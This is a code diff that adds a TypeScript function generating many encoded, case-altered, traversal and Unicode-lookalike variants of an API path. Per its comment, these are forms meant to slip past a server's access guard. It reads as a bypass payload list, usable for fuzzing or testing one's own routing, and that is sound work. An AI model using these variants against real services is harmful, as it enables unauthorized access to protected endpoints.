@@ -1,0 +1,65 @@
+const percentEncode = (text: string) =>
+  [...text].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
+const lastSegment = /[^/]+$/
+
+/** The ways to write a path in which some server somewhere saw what its guard did not. */
+export function listPathVariants(path: string): string[] {
+  const last = lastSegment.exec(path)?.[0] ?? ''
+  const withLast = (text: string) => path.replace(lastSegment, text)
+  return [
+    path,
+    path.toUpperCase(),
+    path.replace('/api', '/aPi'),
+    ...['/', '//', '/.', '/..;/', '/%2e', '%2f', '%5c', '\\', '.', '..', '.json', '.css', ';x', ';.css', '%3bx'].map(
+      (end) => path + end,
+    ),
+    ...[
+      '%00',
+      '%00.css',
+      '%0a',
+      '%0d%0a',
+      '%20',
+      '+',
+      '%09',
+      '%',
+      '%ff',
+      '?',
+      '??',
+      '?.css',
+      '%3f',
+      '#x',
+      '%23',
+      '~',
+      '*',
+    ].map((end) => path + end),
+    `/${path}`,
+    `//a.example${path}`,
+    `/.${path}`,
+    `/x/..${path}`,
+    `/%2e%2e${path}`,
+    `/..%2f${path.slice(1)}`,
+    `/..;${path}`,
+    path.replace('/api/', '/api//'),
+    path.replace('/api/', '/api/./'),
+    path.replace('/api/', '/api/x/../'),
+    path.replace('/api/', '/api/%2e/'),
+    path.replace('/api/', '/api%2f'),
+    path.replace('/api/', '/api%252f'),
+    path.replace('/api/', '/api\\'),
+    path.replace('/api/', '/api;/'),
+    path.replace('/api/', '/api%00/'),
+    path.replace('/api/', '/home/../api/'),
+    path.replace('/api/', '/media/..%2fapi/'),
+    withLast(percentEncode(last)),
+    withLast(percentEncode(percentEncode(last))),
+    // What becomes k, i or s in another letter case; a Latin letter written too long; its wide sister.
+    path.replace(/k/, '%e2%84%aa'),
+    path.replace(/i(?!d)/, '%c4%b0'),
+    path.replace(/s/, '%c5%bf'),
+    path.replace(/a/, '%c1%a1'),
+    path.replace(/a/, '%ef%bd%81'),
+    `http://127.0.0.1${path}`,
+    `/healthz/..${path}`,
+    `/healthz?${path}`,
+  ]
+}
